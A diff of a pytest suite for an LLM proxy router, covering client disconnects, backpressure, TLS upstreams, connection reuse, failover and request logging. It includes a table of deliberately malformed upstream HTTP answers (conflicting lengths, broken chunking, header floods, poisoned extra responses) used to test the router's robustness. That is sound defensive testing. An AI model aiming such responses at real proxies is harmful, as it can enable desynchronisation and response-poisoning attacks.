+LEAVING: dict[str, tuple[str, dict[str, Any], Script | list[Step]]] = {
+    "chat, waiting": (CHAT, ASKS[CHAT], [HANG]),
+    "chat, waiting for a stream": (CHAT, {**ASKS[CHAT], "stream": True}, [HANG]),
+    "chat, in a stream": (CHAT, {**ASKS[CHAT], "stream": True}, endless),
+    "chat, in a silent stream": (
+        CHAT, {**ASKS[CHAT], "stream": True}, broken_stream(HANG)),
+    "chat, in a content": (
+        CHAT, ASKS[CHAT], [head(200, [("Content-Length", "99")]) + b"{", HANG]),
+    "completion, waiting": ("/v1/completions", {"prompt": "hi"}, [HANG]),
+    "embeddings, waiting": ("/v1/embeddings", {"input": "hi"}, [HANG]),
+    "Ollama chat, waiting": ("/api/chat", ASKS["/api/chat"], [HANG]),
+    "Ollama chat, not streamed": (
+        "/api/chat", {**ASKS["/api/chat"], "stream": False}, [HANG]),
+    "Ollama chat, in a stream": ("/api/chat", ASKS["/api/chat"], endless),
+    "Ollama generate, in a silent stream": (
+        "/api/generate", {"prompt": "hi"}, broken_stream(HANG)),
+    "anything else, waiting": ("/v1/rerank", {"query": "hi"}, [HANG]),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("pipelined", [False, True])
+@pytest.mark.parametrize("name", LEAVING)
+def test_client_leaves(name: str, pipelined: bool) -> None:
+    path, document, script = LEAVING[name]
+    model = stage().plays(script)
+    with connect(shared().port) as sock:
+        sock.sendall(post(path, {**document, "model": model}))
+        seen = stage().connection_of(model)
+        if script is endless:
+            receive_until(sock, b"word")
+        if pipelined:
+            sock.sendall(get("/v1/never"))
+        time.sleep(0.02)
+        left = time.monotonic()
+    assert until(lambda: seen.closed)
+    print(f"{name}: closed after {(seen.closed - left) * 1000:.1f} ms")
+    assert seen.closed - left < 1.0
+    assert request(shared().port, "GET", "/v1/fine").status == 200
+
+
+def test_client_leaves_with_a_reset() -> None:
+    model = stage().plays([HANG])
+    sock = connect(shared().port)
+    sock.sendall(post(CHAT, chat(model)))
+    seen = stage().connection_of(model)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
+    sock.close()
+    left = time.monotonic()
+    assert until(lambda: seen.closed)
+    assert seen.closed - left < 1.0
+
+
+def test_a_slow_client_slows_its_upstream_and_nobody_else() -> None:
+    sent: list[int] = []
+    block = event({"choices": [{"index": 0, "delta": {"content": "x" * 65_000}}]})
+
+    def flood(received: Received) -> Iterator[Step]:
+        yield from stream_answer([], whole=False)
+        for number in range(4000):  # 260 MB
+            yield from chunked(block, end=b"")
+            sent.append(number)
+
+    model = stage().plays(flood)
+    with connect(shared().port) as sock:
+        sock.sendall(post(CHAT, chat(model, stream=True)))
+        assert until(lambda: len(sent) > 9)
+        count = -1
+        while count != len(sent):  # until it stands still
+            count = len(sent)
+            time.sleep(0.3)
+        print(f"stands still after {count * len(block) / 1e6:.0f} MB")
+        assert count < 1000
+        assert ask(shared(), "tiny").text == "You said: hi"
+        seen = stage().connection_of(model)
+        assert not seen.closed
+    assert until(lambda: seen.closed)
+
+
+def descriptors(router: Router) -> int:
+    """How many files and sockets a router has open."""
+    folder = pathlib.Path(f"/proc/{router.process.pid}/fd")
+    if not folder.exists():
+        pytest.skip("there is no /proc here")
+    return len(list(folder.iterdir()))
+
+
+def test_a_client_that_reads_nothing_is_not_kept_for_ever(kept: Kept) -> None:
+    """What is left to send to it when its answer is over holds its connection for a while."""
+    program = altered(("write_timeout: float = 300.0", "write_timeout: float = 2.0"))
+    event = b"data: " + b"x" * 60_000 + b"\n\n"
+    begin = head(200, [("Content-Type", "text/event-stream")])
+    model = stage().plays([begin, *[event] * 100, HANG])
+    with Router(kept.settings, program=program) as router, contextlib.ExitStack() as stack:
+        ask(router, "tiny")
+        assert kept.written(1) == 1
+        before = descriptors(router)
+        for _ in range(5):
+            sock = stack.enter_context(socket.socket())
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+            sock.connect(("127.0.0.1", router.port))
+            sock.sendall(encode_request("POST", CHAT, chat(model, stream=True)))
+        until(lambda: descriptors(router) >= before + 8)
+        until(lambda: len(document(router, "/api/inflight")) == 5, 1.0)
+        for row in document(router, "/api/inflight"):
+            request(router.port, "POST", f"/api/inflight/{row['id']}/cancel")
+        assert until(lambda: descriptors(router) <= before + 2, PATIENCE * 2)
+
+
+def test_pipelined_requests_whose_answers_nobody_reads() -> None:
+    with pair() as (router, _), connect(router.port) as sock:
+        sock.settimeout(0.5)
+        asked = get("/") * 1000  # each answer is a hundred times as long
+        with contextlib.suppress(TimeoutError):
+            for _ in range(200):
+                sock.sendall(asked)
+        assert ask(router, "tiny").status == 200
+        assert memory(router) < 60
+
+
+# ======================================================================================
+# 12  Upstreams
+# ======================================================================================
+# The pool, answers that are not HTTP, cool-downs and the lists of models.
+
+# --- TLS and addresses ----------------------------------------------------------------
+
+
+def secure() -> tuple[str, Upstream]:
+    """The file of a certificate that nobody trusts, and an upstream that shows it."""
+    made = certificate()
+    if made is None:
+        pytest.skip("no openssl here to make a certificate")
+    return made[0], Upstream(tls=made[1])
+
+
+def test_tls_upstream_with_a_trusted_certificate() -> None:
+    trusted, upstream = secure()
+    settings = {"DEFAULT_UPSTREAM": upstream.url, "SSL_CERT_FILE": trusted}
+    with upstream, Router(settings) as router:
+        assert ask(router, "tiny").text == "You said: hi"
+        assert ask(router, "tiny", stream=True).text == "You said: hi"
+
+
+def test_tls_upstream_with_an_unknown_certificate_is_refused() -> None:
+    _, upstream = secure()
+    with upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:
+        got = ask(router, "tiny")
+        assert got.status == 502
+        assert "certificate" in got.json["error"]["message"].lower()
+        assert not upstream.requests
+
+
+def test_tls_upstream_with_verify_false() -> None:
+    _, upstream = secure()
+    routes = {
+        "servers": {"self-signed": {"url": upstream.url, "verify": False}},
+        "routes": [{"match": {"model": "tiny"}, "route": {"upstream": "self-signed"}}],
+    }
+    settings = {"DEFAULT_UPSTREAM": upstream.url}
+    with upstream, Router(settings, routes) as router:
+        assert ask(router, "tiny").text == "You said: hi"
+
+
+def test_ipv6_on_both_sides() -> None:
+    try:
+        upstream = Upstream(host="::1")
+    except OSError:
+        pytest.skip("this machine has no ::1")
+    settings = {"LISTEN_HOST": "::1", "DEFAULT_UPSTREAM": upstream.url}
+    with upstream, Router(settings) as router:
+        assert router.url.startswith("http://[::1]:")
+        got = request(router.port, "POST", CHAT, chat("tiny"), host="::1")
+        assert got.text == "You said: hi"
+        assert upstream.heard("tiny")[0].get("Host") == upstream.authority
+
+
+# --- the pool of connections ----------------------------------------------------------
+
+
+def test_upstream_connections_are_reused() -> None:
+    with pair() as (router, upstream):
+        for _ in range(5):
+            assert ask(router, "tiny").status == 200
+            assert ask(router, "tiny", stream=True).whole
+        assert len({r.connection for r in upstream.heard("tiny")}) == 1
+
+
+def test_a_pooled_connection_that_was_closed_is_not_used() -> None:
+    with pair(lambda r: [*FINE, CLOSE]) as (router, upstream):
+        for turn in range(1, 4):
+            assert ask(router, "tiny").json == {"fine": True}
+            assert len(upstream.heard("tiny")) == turn
+            last = upstream.connections[upstream.heard("tiny")[-1].connection]
+            assert until(functools.partial(getattr, last, "closed"))
+
+
+POISON = b"HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\npoisoned"
+
+
+@pytest.mark.parametrize("pause", [0.0, 0.05])
+@pytest.mark.parametrize("junk", [POISON, b"\r\n", b"x"])
+def test_an_answer_that_nobody_asked_for_is_given_to_nobody(junk: bytes, pause: float) -> None:
+    said: set[int] = set()
+
+    def script(received: Received) -> Iterator[Step]:
+        whole = json_answer({"to": received.json["n"]})[0]
+        if pause:
+            yield from (whole, pause, junk)
+        else:
+            yield whole + junk
+        said.add(received.json["n"])
+
+    model = stage().plays(script)
+    for turn in range(4):
+        assert ask(shared(), model, n=turn).json == {"to": turn}
+        assert until(functools.partial(said.issuperset, {turn}))
+        time.sleep(pause)
+
+
+def dies_when_reused(upstream: Upstream, end: Iterable[Step]) -> Script:
+    """Answer the first request of a connection and play `end` to the second."""
+
+    def script(received: Received) -> Iterable[Step]:
+        return FINE if upstream.connections[received.connection].requests < 2 else end
+
+    return script
+
+
+@pytest.mark.parametrize("end", [DROP, CLOSE], ids=repr)
+@pytest.mark.parametrize("stream", [False, True])
+def test_one_silent_retry_when_a_reused_connection_dies(end: Step, stream: bool) -> None:
+    with pair() as (router, upstream):
+        upstream.script = dies_when_reused(upstream, [end])
+        for _ in range(2):
+            assert ask(router, "tiny", stream=stream).json == {"fine": True}
+        first, reused, fresh = (r.connection for r in upstream.heard("tiny"))
+        assert first == reused != fresh
+
+
+def test_no_retry_after_the_first_byte() -> None:
+    with pair() as (router, upstream):
+        upstream.script = dies_when_reused(upstream, [b"HTTP/1.1 200 OK\r\nConte", DROP])
+        assert ask(router, "tiny").status == 200
+        assert ask(router, "tiny").status == 502
+        assert len(upstream.heard("tiny")) == 2
+
+
+def test_no_retry_on_a_fresh_connection() -> None:
+    with pair(lambda r: [DROP]) as (router, upstream):
+        assert ask(router, "tiny").status == 502
+        assert len(upstream.heard("tiny")) == 1
+
+
+def test_upstream_leaves_between_two_requests_of_one_client() -> None:
+    with pair() as (router, upstream), connect(router.port) as sock:
+        assert parse(exchange(sock, get("/v1/one"))).status == 200
+        upstream.close()
+        upstream.script = lambda r: [DROP]
+        assert parse(exchange(sock, get("/v1/two"))).status == 502
+
+
+# --- answers that are not HTTP --------------------------------------------------------
+
+HOSTILE: dict[str, list[Step]] = {
+    "two lengths": upstream_head(b"Content-Length: 2\r\nContent-Length: 3"),
+    "one length twice": upstream_head(b"Content-Length: 2\r\nContent-Length: 2"),
+    "list of lengths": upstream_head(b"Content-Length: 2, 2"),
+    "signed length": upstream_head(b"Content-Length: +2"),
+    "length with underscore": upstream_head(b"Content-Length: 0_2"),
+    "length and coding": upstream_head(b"Content-Length: 2\r\n" + CODED),
+    "gzip as a transfer coding": upstream_head(b"Transfer-Encoding: gzip, chunked"),
+    "bad chunk-size": upstream_head(CODED, b"zz\r\n{}\r\n0\r\n\r\n"),
+    "signed chunk-size": upstream_head(CODED, b"+2\r\n{}\r\n0\r\n\r\n"),
+    "bad end of a chunk": upstream_head(CODED, b"2\r\n{}XX0\r\n\r\n"),
+    "bare LF in a chunk line": upstream_head(CODED, b"2\n{}\r\n0\r\n\r\n"),
+    "no last chunk": upstream_head(CODED, b"2\r\n{}\r\n"),
+    "no end of the trailers": upstream_head(CODED, b"2\r\n{}\r\n0\r\n"),
+    "endless trailers": upstream_head(CODED, b"2\r\n{}\r\n0\r\n" + b"A: b\r\n" * 9999),
+    "content cut short": upstream_head(b"Content-Length: 9"),
+    "content reset": [*upstream_head(b"Content-Length: 9")[:1], DROP],
+    "no content": upstream_head(b"Content-Length: 9", b""),
+    "no answer": [CLOSE],
+    "reset": [DROP],
+    "half a status line": [b"HTTP/1.", CLOSE],
+    "half a head": [b"HTTP/1.1 200 OK\r\nContent-Le", CLOSE],
+    "head without its end": [b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n", CLOSE],
+    "unasked 101": [
+        b"HTTP/1.1 101 Fine\r\nUpgrade: x\r\nConnection: upgrade\r\n\r\n", CLOSE],
+    "flood of 1xx": [b"HTTP/1.1 100 Continue\r\n\r\n" * 51, *FINE],
+    "endless 1xx": [b"HTTP/1.1 103 Hints\r\n\r\n" * 5000, *FINE],
+    "endless field": [b"HTTP/1.1 200 OK\r\nA: " + b"b" * 200_000, CLOSE],
+    "endless fields": [b"HTTP/1.1 200 OK\r\n" + b"A: b\r\n" * 20_000, CLOSE],
+    "too many fields": upstream_head(b"A: b\r\n" * 129 + b"Content-Length: 2"),
+    "endless status line": [b"HTTP/1.1 200 " + b"O" * 200_000, CLOSE],
+    "HTTP/0.9": [b"<html>it works</html>\n", CLOSE],
+    "noise": [bytes(range(256)) * 9, CLOSE],
+    "noise with an end": [b"noise\r\n\r\n", CLOSE],
+    "TLS alert": [b"\x15\x03\x03\x00\x02\x02\x28", CLOSE],
+    "status of two digits": [b"HTTP/1.1 20 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
+    "status of four digits": [
+        b"HTTP/1.1 2000 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
+    "status of letters": [b"HTTP/1.1 abc OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
+    "signed status": [b"HTTP/1.1 +20 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
+    "another protocol": [b"ICY 200 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
+    "HTTP/2": [b"HTTP/2 200 OK\r\nContent-Length: 2\r\n\r\n{}", CLOSE],
+    "bare LF": [b"HTTP/1.1 200 OK\nContent-Length: 2\n\n{}", CLOSE],
+    "NUL in a field": upstream_head(b"A: \0\r\nContent-Length: 2"),
+    "bare CR in a field": upstream_head(b"A: b\rC: d\r\nContent-Length: 2"),
+    "space before the colon": upstream_head(b"Content-Length : 2"),
+    "line without a colon": upstream_head(b"nonsense\r\nContent-Length: 2"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("stream", [False, True])
+@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
+@pytest.mark.parametrize("name", HOSTILE)
+def test_hostile_answer(name: str, path: str, stream: bool) -> None:
+    model = stage().plays(HOSTILE[name])
+    got = request(shared().port, "POST", path, chat(model, stream=stream))
+    assert ended_badly(got), got
+    assert b"[DONE]" not in got.content and b'"done":true' not in got.content
+    if got.status == 502:
+        assert got.json["error"]
+    assert request(shared().port, "GET", "/v1/fine").status == 200
+
+
+def test_a_few_interim_answers_are_fine() -> None:
+    hints = b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n"
+    model = stage().plays([b"HTTP/1.1 100 Continue\r\n\r\n" + hints * 3, *FINE])
+    assert ask(shared(), model).json == {"fine": True}
+
+
+def test_head_of_an_answer_in_pieces() -> None:
+    whole = json_answer({"fine": True})[0]
+    model = stage().plays([s for b in whole for s in (bytes([b]), 0.001)])
+    assert ask(shared(), model).json == {"fine": True}
+
+
+def test_folded_field_of_an_answer_does_not_travel() -> None:
+    steps = [b"HTTP/1.1 200 OK\r\nA: b\r\n c\r\nContent-Length: 2\r\n\r\n{}", CLOSE]
+    data = raw(shared().port, post(CHAT, chat(stage().plays(steps))))
+    assert b"\r\n " not in data.partition(b"\r\n\r\n")[0]
+
+
+def test_junk_after_the_end_reaches_nobody() -> None:
+    model = stage().plays([json_answer({"n": 1})[0] + POISON, 0.05, POISON])
+    for _ in range(3):
+        data = raw(shared().port, post(CHAT, chat(model)))
+        assert parse(data).json == {"n": 1}
+        assert b"poisoned" not in data
+
+
+def test_an_answer_before_the_end_of_the_request() -> None:
+    refusal = head(413, [("Content-Length", "5"), ("Connection", "close")]) + b"large"
+
+    def refuse(listener: socket.socket) -> None:
+        while True:
+            with contextlib.suppress(ConnectionError), listener.accept()[0] as sock:
+                sock.recv(1000)
+                sock.sendall(refusal)
+                time.sleep(0.2)  # and nothing more is read
+
+    listener = socket.create_server(("127.0.0.1", 0))
+    threading.Thread(target=refuse, args=(listener,), daemon=True).start()
+    url = f"http://127.0.0.1:{listener.getsockname()[1]}"
+    with Router({"DEFAULT_UPSTREAM": url}) as router:
+        got = ask(router, "tiny", "x" * 8_000_000)
+        assert (got.status, got.content) == (413, b"large")
+
+
+# --- cool-downs and turns -------------------------------------------------------------
+
+
+class Moody(Upstream):
+    """An upstream that answers as its `mood` says."""
+
+    def __init__(self) -> None:
+        self.mood: Iterable[Step] = FINE
+        super().__init__(lambda received: self.mood)
+
+    @property
+    def asked(self) -> int:
+        return len(self.heard('"m"'))
+
+
+@contextlib.contextmanager
+def moody_pair(strategy: str = "failover", **settings: Any) -> Iterator[tuple]:
+    """Two upstreams of changing moods, behind the alias `pair`."""
+    with Moody() as one, Moody() as two:
+        routes = {
+            "servers": {"one": one.url, "two": two.url},
+            "aliases": {"pair": {"strategy": strategy, "instances": ["one/m", "two/m"]}},
+        }
+        with Router(settings, routes) as router:
+            yield router, one, two
+
+
+@pytest.mark.parametrize("status, cools", [(429, 1), (503, 1), (500, 0), (404, 0)])
+def test_cool_down_after_429_and_503_only(status: int, cools: int) -> None:
+    with moody_pair() as (router, one, two):
+        one.mood = json_answer({}, status)
+        assert ask(router, "pair").status == 200
+        one.mood = FINE
+        assert ask(router, "pair").status == 200
+        assert (one.asked, two.asked) == ((1, 2) if cools else (2, 1))
+
+
+def test_a_cooling_instance_is_the_last_hope() -> None:
+    with moody_pair() as (router, one, two):
+        one.mood = [DROP]
+        assert ask(router, "pair").status == 200
+        one.mood, two.mood = FINE, json_answer({}, 500)
+        assert ask(router, "pair").status == 200
+        assert (one.asked, two.asked) == (2, 2)
+        two.mood = FINE
+        assert ask(router, "pair").status == 200  # its success has cleared it
+        assert (one.asked, two.asked) == (3, 2)
+
+
+def test_retry_after_sets_the_cool_down() -> None:
+    with moody_pair() as (router, one, _):
+        one.mood = json_answer({}, 429, [("Retry-After", "1")])
+        assert ask(router, "pair").status == 200
+        one.mood = FINE
+        assert until(lambda: ask(router, "pair").status == 200 and one.asked > 1)
+
+
+def test_round_robin_takes_turns() -> None:
+    with moody_pair("round_robin") as (router, one, two):
+        for _ in range(6):
+            assert ask(router, "pair").status == 200
+            assert abs(one.asked - two.asked) <= 1
+        assert (one.asked, two.asked) == (3, 3)
+        one.mood = json_answer({}, 500)
+        for _ in range(4):
+            assert ask(router, "pair").status == 200
+
+
+def test_least_busy_takes_the_idle_one() -> None:
+    gate = threading.Event()
+
+    def slow() -> Iterator[Step]:
+        gate.wait(PATIENCE)
+        yield from FINE
+
+    with (
+        moody_pair("least_busy") as (router, one, two),
+        concurrent.futures.ThreadPoolExecutor(4) as pool,
+    ):
+        one.script = two.script = lambda received: slow()
+        asked = []
+        for _ in range(4):
+            asked.append(pool.submit(ask, router, "pair"))
+            assert until(lambda: one.asked + two.asked == len(asked))
+            assert abs(one.asked - two.asked) <= 1
+        gate.set()
+        assert [a.result().status for a in asked] == [200] * 4
+
+
+# --- lists of models ------------------------------------------------------------------
+
+
+def asked_for_models(upstream: Upstream) -> list[str | None]:
+    """The Authorization of each time that a server was asked for its models."""
+    paths = ("/v1/models", "/api/tags")
+    return [r.get("Authorization") for r in upstream.requests if r.path in paths]
+
+
+def test_model_list_is_the_union_and_cached() -> None:
+    here, there = Upstream(models=["one", "twin"]), Upstream(models=["two", "twin"])
+    servers = {"here": {"url": here.url, "api_key": "sk-of-here"}, "there": there.url}
+    aliases = {"friend": {"instances": ["here/one"]}}
+    table = {"servers": servers, "aliases": aliases}
+    settings = {"DEFAULT_UPSTREAM": there.url, "MODEL_MAP": '{"exact":"one","/r/":"x"}'}
+    with here, there, Router(settings, table) as router:
+        names = model_names(router)
+        assert set(names[:2]) == {"friend", "exact"}
+        assert {"one", "two", "twin [here]", "twin [there]"} <= set(names)
+        assert "/r/" not in names and len(set(names)) == len(names)
+        assert model_names(router) == names
+        assert asked_for_models(there).count(f"Bearer {KEY}") == 1
+        assert model_names(router, "sk-of-another") == names
+        assert asked_for_models(there).count("Bearer sk-of-another") == 1
+        assert set(asked_for_models(here)) == {"Bearer sk-of-here"}
+        for name, upstream in (("here", here), ("there", there)):
+            got = tell("/v1/chat/completions", chat(f"twin [{name}]"), router)
+            assert got.status == 200
+            assert latest(upstream).model == "twin"
+
+
+def test_model_list_does_not_wait_for_the_slow() -> None:
+    slow, good = Upstream(lambda received: [HANG]), Upstream(models=["quick"])
+    table = {"servers": {"slow": slow.url, "good": good.url}}
+    with slow, good, Router({"DEFAULT_UPSTREAM": good.url}, table) as router:
+        began = time.monotonic()
+        assert model_names(router) == ["quick"]
+        assert time.monotonic() - began < 4  # the limit is 2 s
+
+
+def test_model_list_of_nobody_is_an_error() -> None:
+    settings = {"DEFAULT_UPSTREAM": switched_off("dead")}
+    with Router(settings, {"servers": {"gone": switched_off("gone")}}) as router:
+        got = request(router.port, "GET", "/v1/models")
+        assert got.status == 502
+        check_openai_error(got.json)
+
+
+@pytest.mark.parametrize("extra", [0, 1], ids=["alone", "beside a good one"])
+def test_model_list_that_is_too_deep_is_none(extra: int) -> None:
+    deep = b'{"data":[{"id":"a","x":' + b"[" * 980 + b"]" * 980 + b"}]}"
+    odd, good = Upstream(lambda r: answer(deep)), Upstream(models=["fine"])
+    table = {"servers": {"good": good.url} if extra else {}}
+    settings = {"DEFAULT_UPSTREAM": odd.url, "WEBUI_SECURITY": "NONE"}
+    with odd, good, Router(settings, table) as router:
+        got = request(router.port, "GET", "/v1/models")
+        assert got.status == (200 if extra else 502)
+        assert ("fine" if extra else "levels") in got.content.decode()
+        server = request(router.port, "GET", "/api/upstreams").json[0]
+        assert (server["state"], server["models"]) == ("up", [])
+        assert "levels" in server["last_error"]
+
+
+@each_openai
+def test_openai_model_list(sdk: Sdk) -> None:
+    names = [model.id for model in sdk.call(catalog().url, "models.list").data]
+    first = {f"alias-{name}" for name in [*SCRIPTS, "nobody"]} | {"old-name"}
+    assert set(names[: len(first)]) == first
+    assert {"talk", "tiny", "org/some-model"} <= set(names[len(first) :])
+    assert len(set(names)) == len(names)
+
+
+@each_openai
+@pytest.mark.parametrize("name", ("tiny", "alias-talk", "old-name", "org/some-model"))
+def test_openai_model_retrieve(sdk: Sdk, name: str) -> None:
+    got = sdk.call(catalog().url, "models.retrieve", name)
+    assert (got.id, got.object) == (name, "model")
+
+
+@each_openai
+def test_openai_unknown_model_retrieve(sdk: Sdk) -> None:
+    with pytest.raises(need("openai").NotFoundError) as caught:
+        sdk.call(catalog().url, "models.retrieve", "no-such-model")
+    assert "no-such-model" in caught.value.message
+
+
+def test_many_keys_make_few_threads() -> None:
+    """Each key may see other models, and is asked for in a thread of its own."""
+    with pair(lambda r: [0.2, *json_answer({"data": []})]) as (router, upstream):
+        threads = pathlib.Path(f"/proc/{router.process.pid}/task")
+        if not threads.exists():
+            pytest.skip("there is no /proc here")
+        with contextlib.ExitStack() as stack:
+            for number in range(100):
+                sock = stack.enter_context(connect(router.port))
+                sock.sendall(get("/v1/models", [("Authorization", f"Bearer {number}")]))
+            assert until(lambda: len(upstream.requests) >= 32)
+            assert len(list(threads.iterdir())) < 45
+            assert until(lambda: len(upstream.requests) == 100)
+
+
+# ======================================================================================
+# 13  Request log
+# ======================================================================================
+# What is kept of each request; then everything that can happen to a database.
+
+# --- rows -----------------------------------------------------------------------------
 
 
 def test_columns_are_the_fields_of_a_row(tmp_path: pathlib.Path) -> None:
@@ -8773,14 +7488,6 @@ def test_a_stream_is_kept_as_the_upstream_said_it() -> None:
     assert (detail["response_text"], detail["response_thinking"]) == ("Yes", "hm")
 
 
-def piece(text: str) -> dict[str, Any]:
-    return {"choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}
-
-
-def ending(reason: str = "stop") -> dict[str, Any]:
-    return {"choices": [{"index": 0, "delta": {}, "finish_reason": reason}]}
-
-
 def test_route_attempts_and_trail() -> None:
     assert ask(logging(), "either").status == 200
     detail = detail_of(logging(), "either")
@@ -8841,77 +7548,6 @@ def test_a_client_that_leaves_is_a_row() -> None:
     assert row["tokens_estimated"] and row["completion_tokens"] == 1
 
 
-def test_cancel_ends_a_request() -> None:
-    for stream in (False, True):
-        begin = [event(piece("one "))] if stream else []
-        model = stage().plays([*stream_answer(begin, whole=False), HANG] if stream else [HANG])
-        with concurrent.futures.ThreadPoolExecutor(1) as pool:
-            asking = pool.submit(ask, logging(), model, stream=stream)
-            running = until(
-                lambda: [
-                    r
-                    for r in document(logging(), "/api/inflight")
-                    if r["original_model"] == model
-                    and r["phase"] == ("streaming" if stream else "waiting")
-                ]
-            )
-            detail = document(logging(), f"/api/request/{running[0]['id']}")
-            assert detail["is_inflight"] and detail["completed_at"] is None
-            path = f"/api/inflight/{running[0]['id']}/cancel"
-            got = request(logging().port, "POST", path)
-            assert (got.status, got.content) == (200, b'{"cancelled":true}')
-            answered = asking.result(PATIENCE)
-            assert b'"code":"cancelled"' in answered.content
-            assert answered.status == (200 if stream else 499)
-        row = row_of(logging(), model)
-        assert (row["status_code"], row["error_message"]) == (499, "cancelled")
-        assert request(logging().port, "POST", path).status == 404
-        until(lambda: stage().connection_of(model).closed)
-        assert stage().connection_of(model).closed
-    for path in ("/api/inflight/x/cancel", "/api/inflight/1/cancel"):
-        assert request(logging().port, "POST", path).status == 404
-
-
-USAGE_CASES: list[tuple[Any, tuple[int | None, int | None, int | None]]] = [
-    # what an upstream said; prompt, completion, cached
-    (b"", (None, None, None)),
-    ({"usage": None}, (None, None, None)),
-    ({"usage": {"prompt_tokens": 9, "completion_tokens": 12, "total_tokens": 21}}, (9, 12, None)),
-    ({"usage": {"prompt_tokens": 9, "completion_tokens": 12,
-                "prompt_tokens_details": {"cached_tokens": 4}}}, (9, 12, 4)),
-    ({"usage": {"prompt_tokens": 9, "total_tokens": 9}}, (9, None, None)),
-    ({"usage": {"total_tokens": 9}}, (9, None, None)),
-    ({"usage": {"prompt_tokens": 5, "completion_tokens": 6}, "more": "x" * 40_000}, (5, 6, None)),
-    ({"data": [{"embedding": [0.25] * 9000}], "usage": {"prompt_tokens": 5}}, (5, None, None)),
-    ({"done": True, "context": [1] * 9000, "prompt_eval_count": 26, "eval_count": 298,
-      "prompt_eval_duration": 130079000}, (26, 298, None)),
-    ({"choices": [], "timings": {"cache_n": 10, "prompt_n": 1, "predicted_n": 7,
-                                 "predicted_ms": 3.5}}, (11, 7, 10)),
-    ({"timings": {"prompt_n": 1, "predicted_n": 7},
-      "usage": {"prompt_tokens": 12, "completion_tokens": 7}}, (12, 7, None)),
-    ({"object": "response", "usage": {
-        "input_tokens": 30, "input_tokens_details": {"cached_tokens": 20}, "output_tokens": 5}},
-     (30, 5, 20)),
-    ({"type": "message", "usage": {"input_tokens": 25, "cache_read_input_tokens": 5,
-                                   "cache_creation_input_tokens": 2, "output_tokens": 15}},
-     (32, 15, 5)),
-    (b"".join(map(event, [
-        {"type": "message_start", "message": {"usage": {"input_tokens": 25, "output_tokens": 1}}},
-        *[{"type": "content_block_delta", "delta": {"text": "word " * 20}}] * 300,
-        {"type": "message_delta", "usage": {"output_tokens": 15}}, {"type": "message_stop"}])),
-     (25, 15, None)),
-    (b"".join(CLAUDE_EVENTS), (9, 4, None)),
-    (b"".join(map(event, [
-        *[{"choices": [], "usage": {"prompt_tokens": 7, "completion_tokens": n}} for n in range(5)],
-        "[DONE]"])), (7, 4, None)),
-    (b"".join(map(event, [*[{**piece("x"), "usage": None}] * 400, ending(), "[DONE]"])),
-     (None, None, None)),
-    ({"choices": [{"message": {"content": '{"prompt_tokens": 5, "usage": {"x": 1}}'}}]},
-     (None, None, None)),
-    ({"usage": {"prompt_tokens": 10**40, "completion_tokens": 1.5}}, (None, None, None)),
-]  # fmt: skip
-
-
 @pytest.mark.parametrize("told", [True, False], ids=["usage", "estimate"])
 def test_a_stream_that_breaks_off_has_its_cost(kept: Kept, told: bool) -> None:
     usage = {"choices": [], "usage": {"prompt_tokens": 10, "completion_tokens": 200}}
@@ -8959,13 +7595,6 @@ def test_an_error_inside_a_stream_is_in_its_row(kept: Kept, joined: bool, end: s
     assert rows == [*wrong, (200, None, 0), (200, None, 0)]
 
 
-@pytest.mark.parametrize("said, wanted", USAGE_CASES)
-def test_usage_of_every_server(said: Any, wanted: Any) -> None:
-    assert smolrouter.read_usage(said if isinstance(said, bytes) else dumps(said)) == wanted
-    if isinstance(said, dict):
-        assert smolrouter.read_usage(json.dumps(said, indent=1).encode()) == wanted
-
-
 def test_tokens_without_usage_are_estimates() -> None:
     events = [piece("Four letters each. "), ending(), "[DONE]"]
     model = stage().plays(sse_answer(events))
@@ -8979,128 +7608,143 @@ def test_tokens_without_usage_are_estimates() -> None:
     assert (row["completion_tokens"], row["tokens_estimated"]) == (-(-letters // 4), True)
 
 
-def said_in(document: Any, path: str = "/v1/chat/completions", asked: Any = None) -> list[Any]:
-    """The transcript's messages as role, content, thinking, calls."""
-    said = document if isinstance(document, bytes) else dumps(document)
-    talk = smolrouter.read_transcript(path, dumps(asked or {}), said)
-    return [
-        (
-            m["role"],
-            m["content"],
-            m["thinking"],
-            [(c["id"], c["name"], c["arguments"]) for c in m["tool_calls"]],
-        )
-        for m in talk
-    ]
+def test_a_name_that_is_no_text_costs_nobody_a_row() -> None:
+    with pair() as (router, _):
+        for name in ("\ud800", "a\udfff [x]"):
+            request(router.port, "POST", "/api/chat", {**ASKS["/api/chat"], "model": name})
+        assert ask(router, "tiny").status == 200
+
+        def rows() -> list[str]:
+            return [r["original_model"] for r in request(router.port, "GET", "/api/logs").json]
+
+        assert until(lambda: len(rows()) == 3), rows()
+        assert "Traceback" not in router.stderr
 
 
-CALL = {"id": "c1", "type": "function", "function": {"name": "f", "arguments": '{"a":1}'}}
-TALKS: list[tuple[str, str, Any, Any, list[Any]]] = [
-    # what, path, request, answer, transcript
-    ("whole", "/v1/chat/completions", chat("m", "hi"), completion({}, "Hello"),
-     [("user", "hi", "", []), ("assistant", "Hello", "", [])]),
-    ("streamed", "/v1/chat/completions", {}, [
-        {"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}}]},
-        piece("<thi"), piece("nk>hm</think>a"), piece("b"),
-        {"choices": [{"index": 0, "delta": {"reasoning_content": "more"}}]}, ending(), "[DONE]"],
-     [("assistant", "ab", "morehm", [])]),
-    ("two choices", "/v1/chat/completions", {}, [
-        {"choices": [{"index": i, "delta": {"content": t}}]} for i, t in ((1, "x"), (0, "a"),
-                                                                          (1, "y"), (0, "b"))],
-     [("assistant", "ab", "", []), ("assistant", "xy", "", [])]),
-    ("calls in pieces", "/v1/chat/completions", {}, [
